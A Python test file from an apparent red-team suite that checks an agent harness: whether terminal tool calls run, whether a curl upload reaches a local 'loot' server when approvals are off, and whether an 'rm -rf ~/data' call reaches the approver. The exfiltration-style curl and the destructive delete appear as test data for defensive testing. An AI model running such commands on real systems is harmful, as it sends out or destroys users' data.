"""The harness itself: without protection an attack has its effect."""

from tests.redteam.conftest import Loot, Machine, RecordingApprover, call


async def test_harmless_commands_run_and_change_the_workspace(machine: Machine):
    outcome = await machine.run(call("terminal", command="echo hello > made.txt && cat made.txt"))
    assert outcome.results == ["hello"]
    assert (machine.work / "made.txt").read_text() == "hello\n"
    machine.assert_unharmed()


async def test_an_approved_request_reaches_the_server(machine: Machine, loot: Loot):
    machine.configure("approvals:\n  mode: 'off'\n")
    await machine.run(call("terminal", command=f"curl -s -d hello {loot.url}/x"))
    assert loot.bodies == [b"hello"]


async def test_a_change_is_noticed(machine: Machine):
    (machine.home / "Documents" / "tax.txt").write_text("gone")
    assert machine.changed() == ["Documents/tax.txt: b'gone'"]


async def test_the_approver_is_asked(machine: Machine):
    approver = RecordingApprover()
    await machine.run(call("terminal", command="rm -rf ~/data"), approver=approver)
    assert approver.questions
    machine.assert_unharmed()
